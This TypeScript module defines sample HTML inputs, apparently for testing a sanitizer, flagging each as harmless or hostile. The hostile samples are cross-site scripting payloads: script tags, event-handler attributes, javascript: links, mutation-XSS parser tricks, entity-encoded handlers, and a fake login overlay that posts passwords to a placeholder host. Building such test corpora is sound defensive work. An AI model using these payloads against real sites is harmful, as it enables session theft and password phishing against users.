/** Something to put into the field. */
export type Sample = Readonly<{ name: string; hint: string; isHostile: boolean; html: string }>

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAECAIAAAA8r+mnAAAAMUlEQVR42mMQ0XADIjEdXziCiDDYBFQAkVNECxxBRBheT4uCoP+7C4AIzmUQsXHDigAI6SDzGJI0GgAAAABJRU5ErkJggg=='

const harmless = [
  {
    name: 'Article',
    hint: 'all that text needs',
    html: `<h3>Kelp holds on</h3>
<p>A <dfn>holdfast</dfn> is no root: it takes <em>nothing</em> from the rock but <strong>a hold</strong>.
Read <a href="https://example.org/kelp">the long version</a>, or press <kbd>?</kbd>.</p>
<blockquote>The storm took the boats and the pier. The kelp was there in the morning.</blockquote>
<ul><li>Grows up to 50&nbsp;cm a day</li><li>Bends, and so does not <mark>break</mark></li></ul>
<table><thead><tr><th>Depth</th><th>Light</th></tr></thead>
<tbody><tr><td>5 m</td><td>34 %</td></tr><tr><td>20 m</td><td>3 %</td></tr></tbody></table>
<h4>In code</h4>
<pre><code>const hold = grip &gt; 0 &amp;&amp; !torn</code></pre>
<details><summary>Where it lives</summary><p>Cold coasts, on rock.</p></details>`,
  },
  {
    name: 'Pictures',
    hint: 'one drawn, one fetched',
    html: `<p>Whoever wrote this learns when it was read, if the second picture loads.</p>
<figure><img alt="The sea at dusk" width="240" height="120" src="data:image/png;base64,${PNG}">
<figcaption>Within the markup</figcaption></figure>
<p><img alt="A tracking pixel" width="120" height="40" src="https://tracker.invalid/pixel.png?reader=42"></p>`,
  },
]

const hostile = [
  {
    name: 'Scripts',
    hint: 'the plain way',
    html: `<p>Nice <b>post</b>!</p>
<script>alarm()</script>
<SCRIPT type=module>alarm()</SCRIPT>
<scr<script>ipt>alarm()</scr</script>ipt>`,
  },
  {
    name: 'Handlers',
    hint: 'events that come by themselves',
    html: `<p>Look at <img src=x onerror=alarm()> this</p>
<details open ontoggle="alarm()"><summary>More</summary>text</details>
<svg onload=alarm()></svg>
<video><source onerror="alarm()" src=x></video>
<b onclick="alarm()">and here</b>`,
  },
  {
    name: 'Links',
    hint: 'addresses that run',
    html: `<p><a href="javascript:alarm()">the report</a>,
<a href="JaVaScRiPt:alarm()">the same</a>,
<a href="java&#10;script:alarm()">and broken in two</a>,
<a href="data:text/html,<script>alarm()</script>">as data</a>,
<a href="https://example.org/report" target="_blank">a real one</a></p>`,
  },
  {
    name: 'Mutation',
    hint: 'safe until parsed twice',
    html: `<p>Formula: <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alarm()&gt;"></table></mtext></math></p>
<svg><p><style><g title="</style><img src=x onerror=alarm()>"></svg>
<noscript><p title="</noscript><img src=x onerror=alarm()>"></noscript>`,
  },
  {
    name: 'Encoded',
    hint: 'markup behind references',
    html: `&lt;img src=x onerror=alarm()&gt; is text here, and so is &amp;lt;b&amp;gt;.
<img src=x onerror=&#97;larm()> is not.
Tom &amp; Jerry, 1 < 2`,
  },
  {
    name: 'Disguise',
    hint: 'dressed up as the page',
    html: `<div style="position:fixed;inset:0;background:#fff;z-index:9999" class="panel">
<form action="https://phish.invalid"><h3>Your session has ended</h3>
<label>Password <input type="password" name="password"></label>
<button>Log in</button></form></div>
<style onload="alarm()">body { filter: blur(9px) }</style>
<iframe src="https://phish.invalid"></iframe>`,
  },
]

/** Harmless ones first. */
export const SAMPLES: readonly Sample[] = [
  ...harmless.map((sample) => ({ ...sample, isHostile: false })),
  ...hostile.map((sample) => ({ ...sample, isHostile: true })),
]
